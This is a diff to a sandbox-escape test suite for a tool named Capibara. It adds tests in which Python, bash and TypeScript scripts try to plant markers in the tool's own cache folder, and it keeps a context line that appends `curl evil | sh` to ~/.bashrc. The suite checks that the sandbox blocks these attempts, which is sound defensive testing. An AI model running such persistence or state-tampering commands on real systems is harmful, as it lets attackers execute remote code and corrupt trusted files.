@@ -14,6 +14,7 @@ import { runnerAddress, runnerKeyFile } from "../../src/cli/_runner_socket.ts";
 import { denoDirKey } from "../../src/runtimes/deno.ts";
 import { CLI, type CliResult, runCli } from "../helpers/cli.ts";
 import {
+  type Attack,
   attack,
   CACHE,
   capibaraFor,
@@ -301,6 +302,112 @@ echo 'curl evil | sh' >> ${HOME}/.bashrc 2>/dev/null && breached=1`,
   ),
   hostUnchanged: async () => assert.equal(await exists(join(HOME, ".bashrc")), false),
 });
+
+// --- Capibara's own folder inside a writable grant ----------------------------------------------
+// The cache folder holds what later runs trust (environments, runtimes, trust records, acceptances,
+// the sandbox's probe). A user who grants a folder that holds it (`--allow-write ~`) grants the
+// script no way into it: it stays read-only; a grant or an output inside it is refused.
+{
+  const granted = join(ROOT, "granted-home");
+  const state = join(granted, ".cache", "capibara");
+  const planted = "PLANTED-IN-CAPIBARA-STATE";
+  const scripts = [
+    [
+      "python",
+      py(`done = []
+for top, dirs, files in os.walk(${JSON.stringify(state)}):
+    for name in files + ["planted.pth"]:
+        try:
+            with open(os.path.join(top, name), "a") as fh:
+                fh.write(${JSON.stringify(planted)})
+            done.append(name)
+        except OSError as error:
+            detail = repr(error)[:120]
+breached = bool(done)
+detail += " wrote: " + ",".join(done[:5])`),
+    ],
+    [
+      "bash",
+      sh(`for f in $(find ${state} -type f) ${state}/planted ${state}/venvs/planted; do
+  echo ${planted} >> "$f" 2>/dev/null && { breached=1; detail="$detail $f"; }
+done`),
+    ],
+    [
+      "typescript",
+      ts(`const walk = (dir: string) => {
+  for (const e of Deno.readDirSync(dir)) {
+    const path = dir + "/" + e.name;
+    if (e.isDirectory) walk(path);
+    else if (e.isFile) {
+      try { Deno.writeTextFileSync(path, ${
+        JSON.stringify(planted)
+      }, { append: true }); breached = true; detail += path + " "; }
+      catch (error) { detail = String(error).slice(0, 120); }
+    }
+  }
+  try { Deno.writeTextFileSync(dir + "/planted", ${
+        JSON.stringify(planted)
+      }); breached = true; detail += dir + "/planted "; }
+  catch { /* refused */ }
+};
+walk(${JSON.stringify(state)});`),
+    ],
+  ] as const;
+  const untouched = async () => {
+    const walk = async (dir: string): Promise<void> => {
+      for await (const e of Deno.readDir(dir)) {
+        const path = join(dir, e.name);
+        assert.ok(!e.name.startsWith("planted"), `${path} was planted`);
+        if (e.isDirectory) await walk(path);
+        else if (e.isFile) {
+          const bytes = await Deno.readFile(path);
+          assert.ok(
+            !new TextDecoder().decode(bytes).includes(planted),
+            `${path} was written`,
+          );
+        }
+      }
+    };
+    await walk(state);
+  };
+  for (const [language, script] of scripts) {
+    attack({
+      name: "write Capibara's own folder through a grant that holds it",
+      language,
+      allow: { write: [granted] },
+      options: { cacheDir: state },
+      before: () => Deno.mkdir(state, { recursive: true, mode: 0o700 }),
+      script,
+      hostUnchanged: untouched,
+    });
+  }
+  const refused: [string, Partial<Attack>][] = [
+    ["a writable grant inside Capibara's own folder", { allow: { write: [join(state, "venvs")] } }],
+    ["an output folder inside Capibara's own folder", {
+      project: granted,
+      context: { output: ".cache/capibara/venvs/x.txt" },
+    }],
+    ["an output folder that holds Capibara's own folder", {
+      project: granted,
+      context: { output: ".cache/x.txt" },
+    }],
+  ];
+  for (const [name, over] of refused) {
+    attack({
+      name: `refused before running: ${name}`,
+      language: "python",
+      options: { cacheDir: state },
+      ...over,
+      before: () => Deno.mkdir(join(state, "venvs"), { recursive: true, mode: 0o700 }),
+      script: py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`),
+      blockedBy: [ValidationError],
+      hostUnchanged: async () => {
+        await neverRan();
+        await untouched();
+      },
+    });
+  }
+}
 
 // --- TypeScript: the code cache a run starts with ----------------------------------------------
 {
@@ -923,4 +1030,4 @@ function runFolders(): string[] {
   });
 }
 
-Deno.test(escapeSuite("files and secrets", { atLeast: { sandbox: 45, noSandbox: 15 } }));
+Deno.test(escapeSuite("files and secrets", { atLeast: { sandbox: 51, noSandbox: 16 } }));
